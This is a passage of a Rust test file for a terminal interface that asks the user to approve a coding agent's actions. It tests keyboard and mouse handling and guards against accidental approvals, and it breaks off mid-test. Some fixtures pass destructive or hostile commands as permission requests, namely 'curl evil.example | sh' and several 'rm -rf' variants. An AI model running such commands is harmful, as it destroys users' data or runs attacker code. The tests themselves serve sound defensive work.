use crate::model::auth_status::{Account, AuthState, AuthStatus};
use crate::model::changes::{ReviewEvent, Scope, Totals};
use crate::model::entries::Slot;
use crate::model::entry::{Block, Body, ChunkKind};
use crate::model::event::{
    AgentEvent, AgentRequest, AuthKind, AuthMethod, CallError, ErrorKind, HostEvent, InitResult, Intent,
    PermissionKind, PermissionOption, PromptAnswer, PromptResult, QueueAct, Stop,
};
use crate::model::event::{CompactionPatch, Event, SessionResult, Update};
use crate::model::history::fixture::Memory;
use crate::model::ids::{EntryId, Owner, ReqId, TermId};
use crate::model::login::{Keep, Secret};
use crate::model::options::{Choice, ConfigOption, Mode, Modes, OptionKind, OptionValue};
use crate::model::patch::Patch;
use crate::model::permission_mode::PermissionMode;
use crate::model::ruling::{MadeRule, NewRules, RuleWish, Ruled, Ruling, Scope as Reach, Weighed, Weighing};
use crate::model::setup::Setup;
use crate::model::tool::{
    Change, Exit, Location, TerminalPatch, ToolContent, ToolKind, ToolPatch, ToolStatus, Wording,
};
use crate::text::run::StyledText;
use crate::text::token::Token;
use crate::ui::fixtures::{Scene, cx_of, returned, session};
use crate::ui::keys::Mouse;
use crate::ui::keys::{Code, Key, Keymap, Mods};
use crate::ui::msg::{EditorJob, Out, What};
use crate::ui::state::dock::Dialog;
use crate::ui::state::folds::Fold;
use crate::ui::state::own_prompts::OwnPrompt;
use crate::ui::state::reading::Looked;
use crate::ui::state::{Focus, Holds};
use crate::ui::tty::{Click, Input};
use crate::ui::update::reading;
use proptest::prelude::*;
use ratatui::buffer::Cell;

fn prompt(text: &str) -> Intent {
    Intent::Prompt { text: text.into(), links: Vec::new() }
}

#[test]
fn enter_sends_and_never_an_empty_prompt() {
    let mut s = Scene::ready(80, 24);
    s.press(Code::Enter).typed("  ").key(Key::alt(Code::Enter)).press(Code::Enter);
    assert_eq!(s.intents(), []);
    s.ctrl('u').press(Code::Backspace).typed("hi").key(Key::alt(Code::Enter)).typed("there").press(Code::Enter);
    let [Intent::Prompt { text, .. }] = &s.intents()[..] else { panic!("{:?}", s.intents()) };
    assert!(text.trim_start().starts_with("hi\nthere"), "{text:?}");
    assert!(s.ui.view.composer.is_empty());
}

#[test]
fn r_211_a_prompt_is_held_in_sight_and_up_takes_it_back() {
    let mut s = Scene::working(80, 24);
    s.typed("and the tests").press(Code::Enter);
    assert_eq!(s.intents(), [prompt("and the tests")]);
    assert!(s.draw().contains("queued: and the tests"), "{}", s.shown);
    s.press(Code::Up).press(Code::Enter);
    assert_eq!(s.intents().last(), Some(&Intent::Queue(QueueAct::Edit(0))));
    assert_eq!(s.ui.view.composer.text(), "and the tests");
    assert!(!s.draw().contains("queued"));
}

#[test]
fn a_prompt_before_the_session_is_held() {
    let mut s = Scene::new(80, 24);
    s.start();
    s.typed("early").press(Code::Enter);
    assert_eq!(s.intents(), [prompt("early")]);
    assert!(s.draw().contains("queued until the session is open: early"), "{}", s.shown);
}

#[test]
fn esc_stops_the_turn_and_nothing_else() {
    let mut s = Scene::ready(80, 24);
    s.press(Code::Esc).typed("kept").press(Code::Esc);
    assert_eq!(s.outs, []);
    assert_eq!(s.ui.view.composer.text(), "kept");
    let mut s = Scene::working(80, 24);
    s.typed("kept").press(Code::Esc);
    assert_eq!(s.intents(), [Intent::Cancel]);
    assert_eq!(s.ui.view.composer.text(), "kept");
    s.after(1000).press(Code::Esc);
    assert_eq!(s.intents(), [Intent::Cancel], "one cancel is enough");
}

#[test]
fn an_unconfirmed_cancel_offers_k_in_the_dock_only() {
    let mut s = Scene::working(80, 24);
    s.press(Code::Esc).after(5900);
    s.draw();
    assert_eq!(s.ui.view.dock.dialog, None);
    s.after(200).press(Code::Esc);
    assert!(s.draw().contains("k end the agent"), "{}", s.shown);
    assert!(s.last_row().contains("Tab, then k ends the agent"), "{}", s.shown);
    s.typed("k");
    assert_eq!(s.intents(), [Intent::Cancel]);
    assert_eq!(s.ui.view.composer.text(), "k");
    s.press(Code::Tab).after(700).draw();
    s.typed("k");
    assert_eq!(s.intents(), [Intent::Cancel, Intent::KillAgent]);
}

#[test]
fn a_silent_turn_offers_to_wait_to_stop_and_to_begin_again_and_takes_no_focus() {
    let mut s = Scene::working(80, 24);
    s.after(59_000).draw();
    assert_eq!(s.ui.view.dock.dialog, None);
    s.after(2000).draw();
    assert_eq!((s.ui.view.focus.clone(), &s.ui.view.dock.dialog), (Focus::Composer, &Some(Dialog::Quiet)));
    for words in ["has said nothing for 1:01", "w wait on", "x stop the turn", "r end it, start it again"] {
        assert!(s.shown.contains(words), "{words}: {}", s.shown);
    }
    s.typed("wxr");
    assert_eq!((s.intents(), s.ui.view.composer.text()), (Vec::new(), "wxr"), "no key answers it unasked");
    s.press(Code::Tab).after(700).draw();
    s.typed("w").draw();
    assert_eq!((s.ui.view.focus.clone(), &s.ui.view.dock.dialog), (Focus::Composer, &None));
    s.after(600_000).draw();
    assert_eq!(s.ui.view.dock.dialog, None, "until something is heard");
    s.say("So");
    s.after(61_000).draw();
    s.press(Code::Tab).after(700).draw();
    s.typed("x");
    assert_eq!(s.intents(), [Intent::Cancel]);
    s.after(6100).draw();
    assert_eq!(s.ui.view.dock.dialog, Some(Dialog::Unconfirmed));
    s.press(Code::Tab).after(700).draw();
    s.typed("r");
    assert_eq!(s.intents(), [Intent::Cancel, Intent::Restart]);
}

#[test]
fn a_tool_may_take_longer_and_a_command_that_prints_is_not_silent() {
    let mut s = Scene::working(80, 24);
    s.tool("t", ToolKind::Execute, "cargo build", ToolStatus::InProgress);
    s.after(200_000).draw();
    assert_eq!(s.ui.view.dock.dialog, None);
    s.after(101_000).draw();
    assert!(s.shown.contains("it has run for 5:01: run cargo build"), "{}", s.shown);
    let mut s = Scene::working(80, 24);
    s.runs(1, "make");
    s.after(299_000);
    s.prints(1, "still here");
    s.after(299_000).draw();
    assert_eq!(s.ui.view.dock.dialog, None);
    s.after(2000).draw();
    assert_eq!(s.ui.view.dock.dialog, Some(Dialog::Quiet));
    s.after(1000);
    s.prints(1, "again");
    s.after(1).draw();
    assert_eq!(s.ui.view.dock.dialog, None);
}

#[test]
fn ctrl_c_clears_then_cancels_then_quits() {
    let mut s = Scene::working(80, 24);
    s.typed("draft").ctrl('c');
    assert!(s.ui.view.composer.is_empty());
    assert_eq!(s.outs, []);
    s.press(Code::Up);
    assert_eq!(s.ui.view.composer.text(), "draft", "it comes back with Up");
    s.ctrl('c').after(2100).ctrl('c');
    assert_eq!(s.intents(), [Intent::Cancel]);
    s.after(2100).ctrl('c');
    assert!(!s.outs.contains(&Out::Quit), "too late for the second");
    s.after(1900).ctrl('c');
    assert!(s.outs.contains(&Out::Quit));
}

#[test]
fn another_key_between_two_ctrl_c_disarms() {
    let mut s = Scene::ready(80, 24);
    s.ctrl('c').typed("x").ctrl('c');
    assert!(!s.outs.contains(&Out::Quit));
    s.ctrl('c');
    assert!(!s.outs.contains(&Out::Quit), "what only cleared is no first");
    s.ctrl('c');
    assert!(s.outs.contains(&Out::Quit));
}

#[test]
fn ctrl_d_quits_only_when_nothing_is_written() {
    let mut s = Scene::ready(80, 24);
    s.typed("x").ctrl('d');
    assert_eq!(s.outs, []);
    s.press(Code::Backspace).ctrl('d');
    assert_eq!(s.outs, [Out::Quit]);
}

#[test]
fn scenario_38_nothing_typed_or_pasted_answers() {
    let mut s = Scene::asked(80, 24);
    s.draw();
    s.typed("yes please 1 2 y n");
    s.after(500).draw();
    s.typed(" r s k q v 3");
    s.input(Input::Paste("1\r2\n".into()));
    let written = s.ui.view.composer.text().to_owned();
    s.press(Code::Enter);
    assert_eq!(s.answers(), []);
    assert_eq!(s.intents(), [prompt(&written)]);
    assert!(written.starts_with("yes please 1 2 y n r s k q v 31"), "{written:?}");
    assert_eq!(s.model.first().session().questions().len(), 1);
    assert_eq!(s.ui.view.focus, Focus::Composer);
}

#[test]
fn clicks_and_pastes_never_answer_even_with_the_focus() {
    let mut s = Scene::asked(80, 24);
    s.press(Code::Tab).after(700).draw();
    for y in 0..24 {
        for x in 0..80 {
            s.input(Input::Mouse { what: Click::Left, x, y });
        }
    }
    s.input(Input::Paste("1\r".into()));
    assert_eq!(s.answers(), []);
}

/// Where a text begins on the screen, the last time that it does.
fn place_of(s: &Scene, words: &str) -> (u16, u16) {
    let found = s.shown.lines().enumerate().filter_map(|(y, row)| Some((row.find(words)?, row, y))).last();
    let (at, row, y) = found.unwrap_or_else(|| panic!("{words}\n{}", s.shown));
    (crate::text::width::str_width(&row[..at]) as u16, y as u16)
}

#[test]
fn the_words_of_a_question_are_selected_with_the_mouse_and_copied() {
    let mut s = Scene::working(60, 24);
    let command = format!("cp {} target/{}", "source/directory/".repeat(5), "x".repeat(70));
    s.ask(1, &command, &["Allow once", "Reject"]);
    s.after(700).draw();
    let (x, y) = place_of(&s, "run cp");
    let from = (x + 4, y);
    let last = s.shown.lines().enumerate().filter(|(_, row)| row.contains("xxx")).map(|(y, _)| y).last().unwrap();
    assert!(last > usize::from(from.1) + 1, "it has several rows\n{}", s.shown);
    s.drag(from, (59, last as u16));
    let copied = |s: &Scene| match s.outs.last() {
        Some(Out::Copy(_, text)) => text.clone(),
        out => panic!("{out:?}"),
    };
    assert_eq!(copied(&s), command, "what the width has broken is whole");
    assert_eq!(s.answers(), []);
    // It stays marked, Ctrl+C copies it once more, and Esc does nothing else.
    s.draw();
    let style = s.theme.style(Token::Selected);
    let is_marked = |s: &Scene| {
        let cell = &s.buf[from];
        style.bg.is_none_or(|bg| cell.bg == bg) && cell.modifier.contains(style.add_modifier)
    };
    assert!(is_marked(&s), "{:?}", s.buf[from]);
    s.outs.clear();
    s.ctrl('c');
    assert_eq!(copied(&s), command);
    s.press(Code::Esc).draw();
    assert!(!is_marked(&s) && s.ui.view.focus == Focus::Composer && s.intents().is_empty(), "{}", s.shown);
    // What is written goes on, and answers nothing.
    s.typed("dr");
    s.drag(from, (59, last as u16));
    s.typed("y1Ana");
    assert_eq!((s.ui.view.composer.text(), s.answers()), ("dry1Ana", vec![]));
    s.ctrl('u');
    s.draw();
    // A part of it, from behind to before.
    let at = place_of(&s, "directory/");
    s.drag((at.0 + 8, at.1), at);
    assert_eq!(copied(&s), "directory");
    // A click selects nothing.
    s.outs.clear();
    s.click(at.0, at.1);
    assert_eq!(s.outs, []);
    assert_eq!(s.ui.view.focus, Focus::Dock, "it goes to the question");
}

#[test]
fn a_dead_alt_is_told_of_and_types_what_it_types() {
    let mut s = Scene::ready(80, 24);
    s.typed("®");
    assert!(s.draw().contains("Alt does not arrive here · F3 reviews"), "{}", s.shown);
    assert_eq!(s.ui.view.composer.text(), "®");
}

#[test]
fn what_was_said_is_read_with_the_keyboard() {
    let mut s = Scene::working(80, 24);
    s.tool("a", ToolKind::Read, "first.rs", ToolStatus::Completed);
    s.say("an answer about parcels");
    s.tool("b", ToolKind::Execute, "make", ToolStatus::Failed);
    s.end_turn(Stop::EndTurn);
    s.draw();
    s.press(Code::F(10)).draw();
    assert!(s.shown.contains("reading · "), "{}", s.shown);
    assert!(s.shown.contains("┃"), "{}", s.shown);
    s.typed("[").draw();
    s.typed("y");
    assert!(matches!(s.outs.last(), Some(Out::Copy(_, text)) if text.contains("subtraction")), "{:?}", s.outs);
    s.typed("f").typed("y");
    assert!(matches!(s.outs.last(), Some(Out::Copy(_, text)) if text.contains("make")), "{:?}", s.outs);
    s.typed("/parcels").draw();
    assert!(s.shown.contains("search: parcels"), "{}", s.shown);
    s.press(Code::Enter).typed("y");
    assert!(matches!(s.outs.last(), Some(Out::Copy(_, text)) if text.contains("parcels")), "{:?}", s.outs);
    s.press(Code::Esc).typed("hello");
    assert_eq!(s.ui.view.composer.text(), "hello");
    assert_eq!(s.intents(), [], "nothing was sent or stopped");
}

/// A call that has looked at something, with so many lines to show.
fn looked(s: &mut Scene, id: &str, lines: usize) {
    let mut patch = ToolPatch::new(id.into());
    patch.kind = Patch::Set(ToolKind::Read);
    patch.title = Patch::Set(format!("{id}.rs"));
    patch.status = Patch::Set(ToolStatus::Completed);
    let text = (1..=lines).map(|line| format!("line {line} of {id}\n")).collect::<Vec<_>>().concat();
    let parts = if lines > 0 { vec![ToolContent::Block(Block::Text(text))] } else { Vec::new() };
    patch.content = Patch::Set(parts);
    s.update(Update::ToolCall(patch.into()));
}

#[test]
fn what_is_clicked_stays_where_it_is_and_unfolds_downwards() {
    // With more above than the screen has, and with less: then all that there is comes into view.
    for (above, stays) in [(30, true), (2, false)] {
        let mut s = Scene::working(80, 24);
        s.say(&"a line of an answer\n\n".repeat(above));
        looked(&mut s, "first", 14);
        s.say("That is what it says.");
        s.draw();
        let y = s.shown.lines().position(|row| row.contains("first.rs")).expect("the row");
        s.click(10, y as u16);
        s.draw();
        assert_eq!(s.row(y).contains("first.rs"), stays, "{above}\n{}", s.shown);
        assert!(s.shown.contains("first.rs") && s.shown.contains("line 1 of first"), "{above}\n{}", s.shown);
        let y = s.shown.lines().position(|row| row.contains("first.rs")).expect("the row");
        s.click(10, y as u16);
        s.draw();
        assert!(!s.shown.contains("line 1 of first") && s.shown.contains("That is what"), "{}", s.shown);
        s.say("What comes is followed.");
        assert!(s.draw().contains("What comes is followed."), "{}", s.shown);
    }
}

#[test]
fn reading_says_of_an_entry_what_enter_does_with_it() {
    let mut s = Scene::working(80, 24);
    looked(&mut s, "bare", 0);
    s.say("an answer");
    looked(&mut s, "full", 5);
    s.end_turn(Stop::EndTurn);
    s.draw();
    s.press(Code::F(10)).draw();
    // Below it stands the end of the turn.
    if !s.shown.contains("┃ read   full.rs") {
        s.press(Code::Up).draw();
    }
    assert!(s.shown.contains("reading · Enter unfolds · Esc leaves"), "{}", s.shown);
    s.press(Code::Enter).draw();
    assert!(s.shown.contains("reading · Enter folds · Esc leaves"), "{}", s.shown);
    s.press(Code::Enter).draw();
    assert!(s.shown.contains("reading · Enter unfolds · Esc leaves"), "{}", s.shown);
    s.press(Code::Up).draw();
    assert!(s.shown.contains("reading · Esc leaves"), "an answer\n{}", s.shown);
    s.press(Code::Up).draw();
    assert!(s.shown.contains("reading · Esc leaves"), "nothing more to show\n{}", s.shown);
}

#[test]
fn the_palette_finds_what_has_a_key_and_does_it() {
    let mut s = Scene::ready(120, 40);
    s.commands(&["compact"]);
    s.ctrl('p').typed("next gate").draw();
    assert!(s.shown.contains("F4, Alt+G"), "{}", s.shown);
    s.press(Code::Enter);
    assert!(matches!(s.intents().last(), Some(Intent::SetGate(_))), "{:?}", s.intents());
    s.ctrl('p').typed("/compact").press(Code::Enter);
    assert_eq!(s.ui.view.composer.text(), "/compact ");
}

#[test]
fn a_file_that_was_chosen_goes_along_as_a_link() {
    let mut s = Scene::ready(80, 24);
    s.typed("look at @ma");
    assert_eq!(s.ui.view.mentions.wanted(&s.ui.view.composer), Some("ma"));
    s.ui.view.mentions.find("ma".into(), vec![("src/main.rs".into(), 2048), ("Makefile".into(), 1)]);
    assert!(s.draw().contains("▸ src/main.rs"), "{}", s.shown);
    s.press(Code::Down).press(Code::Enter);
    assert_eq!(s.ui.view.composer.text(), "look at @Makefile ");
    s.typed(":2-3 ");
    assert_eq!(s.ui.view.composer.text(), "look at @Makefile:2-3 ");
    s.typed(":)");
    assert_eq!(s.ui.view.composer.text(), "look at @Makefile:2-3 :)", "a blank that was typed stays");
    s.press(Code::Enter);
    let [Intent::Prompt { links, .. }] = &s.intents()[..] else { panic!("{:?}", s.intents()) };
    assert_eq!(links[0].uri, "file:///home/me/src/shop/Makefile#L2-L3");
}

#[test]
fn a_click_goes_to_the_question_and_answers_nothing() {
    let mut s = Scene::asked(80, 24);
    s.after(700).draw();
    let (x, y) = (s.info.dock.x + 3, s.info.dock.bottom() - 1);
    for _ in 0..3 {
        s.click(x, y);
    }
    assert_eq!((s.ui.view.focus.clone(), s.answers()), (Focus::Dock, vec![]));
}

#[test]
fn a_second_click_on_an_option_answers_and_a_double_click_does_not() {
    let mut s = Scene::asked(80, 24);
    s.after(700).draw();
    let (at, option) = s.info.choices[1];
    let click = |s: &mut Scene| {
        s.input(Input::Mouse { what: Click::Left, x: at.x, y: at.y });
        s.draw();
        (s.ui.view.dock.highlighted, s.answers().len())
    };
    assert_eq!(click(&mut s), (Some(option), 0));
    assert_eq!(s.ui.view.focus, Focus::Dock);
    s.after(100);
    assert_eq!(click(&mut s), (Some(option), 0), "half of a double click");
    let other = s.info.choices[0].0;
    s.after(600).input(Input::Mouse { what: Click::Left, x: other.x, y: other.y });
    assert_eq!((s.ui.view.dock.highlighted, s.answers()), (Some(0), vec![]), "another one is only highlighted");
    s.after(600);
    assert_eq!(click(&mut s), (Some(option), 0));
    s.after(600);
    click(&mut s);
    assert_eq!(s.answers().len(), 1);
}

#[test]
fn clicks_at_one_place_never_answer_what_has_moved_there() {
    let options = ["Yes, and allow it in this project for as long as there is one, whatever it does", "Yes", "No"];
    let asked = |columns, rows| {
        let mut s = Scene::working(columns, rows);
        s.ask_edit(1, "src/x.rs", "a\nb\nc\n", "a\nB\nc\n", &options);
        s.after(700).draw();
        s
    };
    let mut answered = 0;
    for (columns, rows) in [40, 60, 80].into_iter().flat_map(|columns| (10..30).map(move |rows| (columns, rows))) {
        let wanted: Vec<_> = asked(columns, rows).info.choices.clone();
        for (at, option) in wanted {
            let mut s = asked(columns, rows);
            for _ in 0..4 {
                s.after(700).input(Input::Mouse { what: Click::Left, x: at.x, y: at.y });
                s.draw();
            }
            let given = s.answers();
            let is_it = |(_, id): &(u64, String)| *id == format!("opt-{}", option + 1);
            assert!(given.iter().all(is_it), "{columns}x{rows}: {option} was clicked, {given:?}");
            answered += given.len();
        }
    }
    assert!(answered > 100, "{answered}");
}

#[test]
fn the_dock_never_takes_the_focus_by_itself() {
    let mut s = Scene::working(80, 24);
    s.typed("wri");
    s.ask(1, "rm -rf /", &["Allow", "Reject"]);
    s.draw();
    assert_eq!(s.ui.view.focus, Focus::Composer);
    s.after(1000).typed("ting");
    assert_eq!(s.ui.view.composer.text(), "writing");
    for way in [Key::plain(Code::Tab), Key::alt(Code::Char('p'))] {
        s.key(way);
        assert_eq!(s.ui.view.focus, Focus::Dock, "{way}");
        s.after(700).draw();
        s.press(Code::Esc);
        assert_eq!(s.ui.view.focus, Focus::Composer);
        s.key(way).after(700).press(Code::Tab);
        assert_eq!(s.ui.view.focus, Focus::Composer);
    }
    assert_eq!(s.intents(), [], "none of it answered or cancelled");
}

#[test]
fn a_digit_answers_at_once_and_enter_only_what_is_highlighted() {
    let mut s = Scene::asked(80, 24);
    s.press(Code::Tab).after(700).draw();
    s.press(Code::Enter);
    assert_eq!(s.answers(), [], "nothing is highlighted at first");
    assert!(s.draw().contains("choose first: a digit, or Down"), "{}", s.shown);
    s.press(Code::Down);
    assert_eq!(s.ui.view.dock.highlighted, Some(0), "the first Down takes the first option");
    s.press(Code::Down).press(Code::Enter);
    assert_eq!(s.answers(), [(1, "opt-2".to_owned())]);
    assert_eq!(s.ui.view.focus, Focus::Composer, "nothing else waits");

    let mut s = Scene::asked(80, 24);
    s.press(Code::Tab).after(700).draw();
    s.typed("9");
    assert!(s.draw().contains("no answer has this number"), "{}", s.shown);
    s.typed("3");
    assert_eq!(s.answers(), [(1, "opt-3".to_owned())]);
}

#[test]
fn r_338_keys_right_after_the_focus_or_a_change_of_dialog_are_ignored() {
    let mut s = Scene::asked(80, 24);
    s.ask(2, "curl evil.example | sh", &["Allow", "Reject"]);
    s.draw();
    s.press(Code::Tab).after(699).draw();
    s.typed("1");
    assert_eq!(s.answers(), []);
    s.after(1).draw();
    s.typed("1");
    assert_eq!(s.answers(), [(1, "opt-1".to_owned())]);
    assert_eq!(s.ui.view.focus, Focus::Composer, "another request waits, and digits answer it");
    s.draw();
    s.typed("1").after(299).typed("1");
    assert_eq!(s.answers().len(), 1, "the dialog has changed");
    s.after(1).typed("2");
    assert_eq!(s.answers().last(), Some(&(2, "opt-2".to_owned())));
    assert_eq!(s.ui.view.focus, Focus::Composer);
}

#[test]
fn r_337_the_person_goes_from_one_waiting_request_to_the_other() {
    let mut s = Scene::asked(80, 24);
    s.ask(2, "second", &["Allow", "Reject"]);
    s.press(Code::Tab).after(700).draw();
    s.press(Code::Right);
    assert!(s.draw().contains("2 of 2"));
    s.typed("1");
    assert_eq!(s.answers(), [], "the dialog has changed");
    s.after(700).typed("2");
    assert_eq!(s.answers(), [(2, "opt-2".to_owned())]);
    s.draw();
    s.after(700).typed("1");
    assert_eq!(s.answers().last(), Some(&(1, "opt-1".to_owned())), "the first still waits");
}

#[test]
fn a_dialog_that_changed_since_the_frame_is_not_answered() {
    let mut s = Scene::asked(80, 24);
    s.ask(2, "second", &["Allow", "Reject"]);
    s.press(Code::Tab).after(700).draw();
    s.agent(AgentEvent::RequestWithdrawn(ReqId(1)));
    s.after(1000).typed("1");
    assert_eq!(s.answers(), [], "the second has never been on the screen");
    s.draw();
    s.typed("1");
    assert_eq!(s.answers(), [], "nor for long enough");
    s.after(700).typed("1");
    assert_eq!(s.answers(), [(2, "opt-1".to_owned())]);
}

#[test]
fn a_question_that_becomes_another_one_takes_no_key_for_a_while() {
    let mut s = Scene::asked(80, 24);
    s.press(Code::Tab).after(700).draw();
    s.tool("call-1", ToolKind::Execute, "rm -rf ~", ToolStatus::Pending);
    s.draw();
    s.typed("1");
    assert_eq!(s.answers(), []);
    s.after(300).typed("1");
    assert_eq!(s.answers().len(), 1);
}

/// Version 2 words its questions apart from the call that they are about.
fn ask_in_words(s: &mut Scene, req: u64, title: &str) {
    let mut patch = ToolPatch::new("call-1".into());
    patch.wording = Some(Box::new(Wording { title: title.into(), ..Wording::default() }));
    s.ask_patch(req, patch, &["Allow", "Reject"]);
}

#[test]
fn a_second_question_about_a_call_does_not_change_the_words_of_the_first() {
    let mut s = Scene::working(100, 30);
    ask_in_words(&mut s, 1, "May I read the manual?");
    s.press(Code::Tab).after(700).draw();
    ask_in_words(&mut s, 2, "May I delete everything?");
    assert!(s.shown.contains("May I read the manual?") && !s.shown.contains("delete everything"), "{}", s.shown);
    s.typed("1");
    assert_eq!(s.answers(), [(1, "opt-1".to_owned())]);
    assert!(s.draw().contains("May I delete everything?"), "{}", s.shown);
    s.after(100).typed("1");
    assert_eq!(s.answers().len(), 1, "another question, on the screen for too short a time");
}

#[test]
fn a_question_shows_what_the_agents_own_terminal_runs_and_waits_anew_when_that_changes() {
    let mut s = Scene::working(100, 30);
    let id = TermId::from("own").with_owner(Owner::Agent);
    let runs = |command: &str| {
        let mut patch = TerminalPatch::new(id.clone());
        patch.command = Patch::Set(command.into());
        Update::Terminal(patch.into())
    };
    s.update(runs("ls -la"));
    let mut patch = ToolPatch::new("call-1".into());
    patch.kind = Patch::Set(ToolKind::Execute);
    patch.title = Patch::Set("list files".into());
    patch.content = Patch::Set(vec![ToolContent::Terminal(id.clone())]);
    s.ask_patch(1, patch, &["Allow", "Reject"]);
    assert!(s.shown.contains("runs  ls -la"), "{}", s.shown);
    s.press(Code::Tab).after(2000).draw();
    s.update(runs("rm -rf ~/precious"));
    assert!(s.draw().contains("runs  rm -rf ~/precious"), "{}", s.shown);
    // Also where the title has it as a part of something else.
    s.update(runs("list"));
    assert!(s.draw().contains("runs  list"), "{}", s.shown);
    s.after(100).typed("1");
    assert_eq!(s.answers(), []);
    s.after(700).typed("1");
    assert_eq!(s.answers().len(), 1);
}

/// An agent that counts the seconds in its title asks for ever.
#[test]
fn a_question_that_never_stops_changing_is_answered_by_the_same_key_twice() {
    let mut s = Scene::asked(80, 24);
    s.press(Code::Tab).after(700).draw();
    let mut said = Vec::new();
    for step in 0..20 {
        s.tool("call-1", ToolKind::Execute, &format!("deploy ({step})"), ToolStatus::Pending);
        s.draw();
        let key = match step {
            // The second comes from a key that is held down, the third is another one.
            5 | 6 => "1",
            10 => "3",
            14 => "3",
            _ => "",
        };
        s.after(50).typed(key);
        said.push((step, s.answers().len()));
        if step == 5 {
            assert!(s.draw().contains("just changed: press again to answer"), "{}", s.shown);
        }
        s.after(50);
    }
    assert_eq!(said.iter().find(|(_, answers)| *answers > 0), Some(&(14, 1)));
    assert_eq!(s.answers(), [(1, "opt-3".to_owned())]);
}

#[test]
fn an_early_key_is_told_so() {
    let mut s = Scene::asked(80, 24);
    s.press(Code::Tab).draw();
    s.typed("1");
    assert_eq!(s.answers(), []);
    assert!(s.draw().contains("too soon"), "{}", s.shown);
}

#[test]
fn a_digit_that_came_with_other_bytes_answers_nothing_and_is_told_so() {
    let mut s = Scene::asked(80, 24);
    s.press(Code::Tab).after(2000).draw();
    s.input(Input::Hasty(Key::char('1')));
    assert_eq!(s.answers(), []);
    assert!(s.draw().contains("too soon"), "{}", s.shown);
    s.typed("1");
    assert_eq!(s.answers().len(), 1);
}

#[test]
fn no_key_that_came_together_with_others_answers_or_begins_to() {
    let keys = ('!'..='~').map(Key::char).chain([Key::plain(Code::Enter), Key::alt(Code::Char('1'))]);
    for key in keys {
        let mut s = Scene::asked(80, 24);
        s.press(Code::Tab).after(2000).draw();
        s.press(Code::Down).draw();
        s.input(Input::Hasty(key));
        assert_eq!(s.answers(), [], "{key}");
        assert!(s.outs.is_empty() && s.ui.refusal.is_none() && s.ui.view.dock.rule.is_none(), "{key}");
        s.typed("1");
        assert_eq!(s.answers().len(), 1, "{key}");
    }
    let mut s = Scene::asked(80, 24);
    s.press(Code::Tab).after(2000).draw();
    s.press(Code::Char('!')).typed("no");
    s.input(Input::Hasty(Key::plain(Code::Enter)));
    assert!(s.intents().is_empty() && s.ui.refusal.is_some());
}

#[test]
fn a_question_that_has_stood_for_a_while_is_answered_right_after_tab() {
    let mut s = Scene::asked(80, 24);
    s.after(2000).press(Code::Tab).draw();
    s.typed("1");
    assert_eq!(s.answers(), [(1, "opt-1".to_owned())]);
}

#[test]
fn a_burst_of_five_is_tab_and_five_digits() {
    let mut s = Scene::asked(80, 24);
    s.after(700).press(Code::Tab).typed("1");
    for req in 2..6 {
        // The next comes a while after the answer; a digit before it is dropped.
        s.after(200).typed("1");
        assert!(s.draw().contains("too soon"), "{}", s.shown);
        s.after(200);
        s.ask(req, "make", &["Allow", "Reject"]);
        assert!(s.shown.contains("a digit answers"), "{}", s.shown);
        assert!(!s.shown.contains("nothing is asked yet"), "it is asked now: {}", s.shown);
        s.after(300).typed("1");
    }
    let all: Vec<u64> = s.answers().iter().map(|(req, _)| *req).collect();
    assert_eq!(all, [1, 2, 3, 4, 5]);
    assert!(s.ui.view.composer.is_empty());
}

#[test]
fn the_digits_that_answer_alone_are_named_where_an_answer_lasts() {
    use PermissionKind::{AllowAlways, AllowOnce, RejectAlways, RejectOnce};
    let says = |kinds: &[PermissionKind]| {
        let mut s = Scene::asked(80, 24);
        s.after(700).press(Code::Tab).typed("1").after(100);
        let options = kinds.iter().enumerate();
        let options = options.map(|(n, kind)| PermissionOption { id: format!("{n}"), name: "x".into(), kind: *kind });
        let (tool, options) = (ToolPatch::new("t".into()), options.collect());
        let request = AgentRequest::Permission { tool, options };
        s.agent(AgentEvent::Request { req: ReqId(9), session: Some(session()), request: request.into() });
        s.draw().to_owned()
    };
    for (kinds, words) in [
        (&[AllowAlways, AllowOnce, RejectOnce][..], "2 or 3 answers · Tab all keys"),
        (&[AllowOnce, AllowAlways, RejectOnce, RejectOnce], "1, 3 or 4 answers"),
        (&[AllowAlways, RejectOnce], "2 answers"),
        (&[AllowOnce, RejectOnce], "a digit answers"),
        (&[AllowAlways, RejectAlways], "Tab all keys"),
    ] {
        let shown = says(kinds);
        assert!(shown.contains(words), "{words}: {shown}");
        assert_eq!(shown.contains("answers"), words.contains("answers"), "{shown}");
    }
}

/// The answers of codex-acp, which leave two rows for what is asked.
fn narrow_edit(s: &mut Scene, req: u64) {
    use PermissionKind::{AllowAlways, AllowOnce, RejectOnce};
    let names = [
        ("Yes, proceed", AllowOnce),
        ("Yes, and don't ask again for these files", AllowAlways),
        ("No, and tell Codex what to do differently", RejectOnce),
    ];
    let options = names.iter().zip(1..);
    let options =
        options.map(|((name, kind), n)| PermissionOption { id: format!("{n}"), name: (*name).into(), kind: *kind });
    let mut tool = ToolPatch::new(format!("edit-{req}").into());
    (tool.kind, tool.title) = (Patch::Set(ToolKind::Edit), Patch::Set("a.rs".into()));
    let text: String = (1..=9).map(|n| format!("line {n};\n")).collect::<Vec<_>>().concat();
    tool.content = Patch::Set(vec![ToolContent::Change(Change::of_texts("a.rs", None, text.into()))]);
    let request = AgentRequest::Permission { tool, options: options.collect() };
    s.agent(AgentEvent::Request { req: ReqId(req), session: Some(session()), request: request.into() });
    s.draw();
}

#[test]
fn a_narrow_question_says_how_much_more_there_is_also_while_digits_answer() {
    let mut s = Scene::working(40, 10);
    narrow_edit(&mut s, 1);
    assert!(s.shown.contains("+8 · Tab"), "{}", s.shown);
    s.after(700).press(Code::Tab).typed("1").after(100);
    narrow_edit(&mut s, 2);
    assert!(s.shown.contains("+8 · 1,3"), "{}", s.shown);
}

#[test]
fn pages_of_a_narrow_question_leave_no_row_out_and_what_lasts_can_be_answered() {
    let mut s = Scene::working(40, 10);
    narrow_edit(&mut s, 1);
    s.after(700).press(Code::Tab).draw();
    s.typed("2").draw();
    assert_eq!(s.answers(), [], "it was not read");
    let mut seen = String::new();
    while s.ui.view.dock.scroll < s.info.dock_scroll_max {
        seen.push_str(&s.shown);
        let before = s.ui.view.dock.scroll;
        s.press(Code::PageDown).draw();
        assert!(s.ui.view.dock.scroll > before, "{}", s.shown);
    }
    seen.push_str(&s.shown);
    for n in 1..=9 {
        assert!(seen.contains(&format!("line {n};")), "{n}: {seen}");
    }
    s.typed("2");
    assert_eq!(s.answers(), [(1, "2".to_owned())], "{}", s.shown);
}

#[test]
fn what_is_said_of_a_key_goes_when_the_place_of_the_key_is_left() {
    let mut s = Scene::working(80, 10);
    narrow_edit(&mut s, 1);
